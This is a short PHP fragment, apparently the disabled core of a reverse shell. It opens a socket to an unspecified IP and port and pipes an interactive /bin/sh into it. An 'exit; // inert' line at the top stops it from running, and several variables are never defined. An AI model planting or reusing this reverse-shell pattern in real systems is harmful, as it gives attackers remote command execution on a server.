<?php
exit; // inert
$shell = 'uname -a; id; /bin/sh -i';
$socket = fsockopen($ip, $port, $errno, $errstr, 30);
$process = proc_open($shell, $spec, $pipes);
